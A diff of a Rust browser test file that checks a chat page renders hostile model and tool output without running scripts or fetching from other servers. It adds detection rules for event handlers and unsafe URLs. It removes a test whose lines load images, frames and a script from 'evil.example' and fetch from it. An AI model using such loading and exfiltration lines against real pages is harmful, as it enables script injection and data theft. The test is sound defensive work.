@@ -3,6 +3,9 @@
 //! The texts are data, in `hostile/`: one for each line, in which `\n` is a line break. Each is said by a model, and
 //! each is what a tool returns.
 
+mod frames;
+mod policy;
+
 use serde_json::{Value, json};
 
 use super::page::Page;
@@ -18,39 +21,50 @@ fn texts() -> Vec<String> {
     lines.map(|line| line.replace("\\n", "\n")).collect()
 }
 
-/// What the page may not have in it: each rule names what breaks it.
+/// What nothing may have that was said, wherever it is shown: each rule names what breaks it. A rule reads `found`.
 const RULES: &str = r"
     const found = [];
+    const looks = (one) => {
+      for (const { name, value } of one.attributes) {
+        if (/^(on|ping$)/i.test(name)) found.push(`${one.tagName} has ${name}`);
+        const isPicture = one.tagName === 'IMG' && /^data:image\//i.test(value);
+        if (/^(href|src|action|formaction|xlink:href|data|poster|srcset|cite|background)$/i.test(name) && !/^(https?:|mailto:|#|\/)/i.test(value) && !isPicture) found.push(`${name} is ${value}`);
+      }
+    };";
+
+/// What the page may not have in it besides.
+const PAGE: &str = r"
     const said = [...document.querySelectorAll('.transcript, .ask')];
     const inside = (css) => said.flatMap((one) => [...one.querySelectorAll(css)]);
     if (window.__pwned !== undefined || ({}).pwned !== undefined || document.documentElement.dataset.pwned) found.push('a script ran');
     for (const one of inside('*')) {
+      looks(one);
       for (const { name, value } of one.attributes) {
-        if (/^on/i.test(name)) found.push(`${one.tagName} has ${name}`);
-        if (/^(href|src|action|formaction|xlink:href|data|poster|srcset)$/i.test(name) && !/^(https?:|mailto:|#|\/)/i.test(value)) found.push(`${name} is ${value}`);
         if (name === 'style' && /url|expression|position/i.test(value)) found.push(`style is ${value}`);
         if (name === 'id' && /^(app|main|attributes|body)$/.test(value)) found.push(`id is ${value}`);
       }
     }
     for (const one of inside('script, style, link, meta, base, object, embed, applet, img, video, audio, source, picture, math, form:not(form.said), dialog, template, portal, frame, frameset')) found.push(`a ${one.tagName}`);
     for (const one of inside('svg')) if (one.querySelector('script, animate, set, foreignObject, use, a, image')) found.push('an SVG that does something');
-    for (const one of inside('iframe')) if (one.getAttribute('sandbox') !== '' || one.src) found.push(`a frame: ${one.outerHTML.slice(0, 80)}`);
+    for (const one of inside('iframe')) if (one.getAttribute('sandbox') !== 'allow-same-origin' || one.src) found.push(`a frame: ${one.outerHTML.slice(0, 80)}`);
     for (const one of inside('a[target]')) if (!one.rel.includes('noopener')) found.push('a link that is followed back');
     for (const one of performance.getEntriesByType('resource')) if (new URL(one.name).origin !== location.origin && !one.name.startsWith('data:')) found.push(`fetched ${one.name}`);
     if (!document.getElementById('app') || location.pathname.split('/')[1] !== 'chat') found.push('the page is another');
     return found;";
 
 async fn obeys_nothing(page: &Page) {
-    let found = page.run(RULES, vec![]).await;
+    let found = page.run(&format!("{RULES}{PAGE}"), vec![]).await;
     assert_eq!(found, json!([]), "what was obeyed");
+    assert_eq!(page.driver.windows().await.unwrap().len(), 1, "a window was opened");
 }
 
-/// Presses every link and code button that was said, and comes back.
+/// Presses every link and code button that was said. Only what leads to another server is not followed: what would run
+/// a script must have its chance.
 async fn press_all(page: &Page) {
     let press = "for (const one of document.querySelectorAll('.markdown a, .markdown button, .result a')) {\
-        one.addEventListener('click', (event) => event.preventDefault(), { once: true });\
+        if (/^https?:$/.test(one.protocol)) one.addEventListener('click', (event) => event.preventDefault(), { once: true });\
         one.click(); one.dispatchEvent(new MouseEvent('mouseover', { bubbles: true })); one.focus(); }\
-        return true";
+        return new Promise((done) => setTimeout(() => done(true)))";
     assert_eq!(page.run(press, vec![]).await, Value::Bool(true));
 }
 
@@ -66,11 +80,17 @@ const TOGETHER: usize = 9;
 
 #[tokio::test]
 async fn what_a_model_says_does_nothing() {
+    let mut in_use: Option<Page> = None;
     for some in texts().chunks(TOGETHER) {
         // Each is an answer of its own: one that breaks out is seen at the next.
         let turns = some.iter().map(|text| Turn::Say(text.clone().leak())).collect();
         let server = scripted_for(User::new(), turns);
-        let page = Page::signed_in(&server).await;
+        // One browser for all of them: to start one takes longer than to read the texts.
+        let mut page = match in_use.take() {
+            Some(page) => page,
+            None => Page::open(&server).await,
+        };
+        page.signs_in(&server).await;
         page.say("Begin.").await;
         page.thread().await;
         for number in 1..=some.len() {
@@ -89,8 +109,10 @@ async fn what_a_model_says_does_nothing() {
         page.until_of("every answer", all, vec![some.len().into()]).await;
         press_all(&page).await;
         obeys_nothing(&page).await;
-        page.ends().await;
+        page.leaves().await;
+        in_use = Some(page);
     }
+    in_use.unwrap().ends().await;
 }
 
 #[tokio::test]
@@ -118,40 +140,7 @@ async fn what_a_tool_returns_does_nothing() {
     let shown = "return [...document.querySelectorAll('.result')].filter((one) => one.outerHTML.includes('__pwned')).length";
     let shown = page.run(shown, vec![]).await;
     assert!(shown.as_u64() > Some(50), "the texts are not there: {shown}");
-    // The purifier reads a page in a document of its own, in which the policy refuses handlers once more.
-    page.ends_but_for(&["about:srcdoc", "vendor/dompurify.js"]).await;
-}
-
-/// Tries what a text could try that got into the page after all, and says which rules of the page's policy refused it.
-const INTRUDE: &str = r"
-    const refused = new Set();
-    addEventListener('securitypolicyviolation', (event) => refused.add(event.effectiveDirective));
-    const tries = [
-        () => (document.createElement('div').innerHTML = '<b>text</b>'),
-        () => document.body.append(Object.assign(document.createElement('img'), { src: 'https://evil.example/seen.png' })),
-        () => document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' })),
-        () => document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://evil.example/x.css' })),
-        () => document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' })),
-        () => fetch('https://evil.example/').catch(() => {}),
-        () => import('https://evil.example/x.js').catch(() => {}),
-        () => (location.hash = '#stays'),
-    ];
-    for (const attempt of tries) try { attempt(); } catch { /* It was refused. */ }
-    return new Promise((done) => setTimeout(() => done([...refused].sort()), 1000));";
-
-#[tokio::test]
-async fn what_gets_into_the_page_all_the_same_is_refused_by_its_policy() {
-    let server = crate::http::Server::start(&[]);
-    let page = Page::signed_in(&server).await;
-    let refused = page.run(INTRUDE, vec![]).await;
-    let rules = [
-        "base-uri",
-        "connect-src",
-        "frame-src",
-        "img-src",
-        "require-trusted-types-for",
-        "script-src-elem",
-        "style-src-elem",
-    ];
-    assert_eq!(refused, json!(rules));
+    // The purifier reads a page in a document of its own, in which the policy refuses handlers once more; and what the
+    // styles name that the page gives a frame, it refuses to fetch.
+    page.ends_but_for(&["about:srcdoc", "vendor/dompurify.js", "chat/frame.js"]).await;
 }
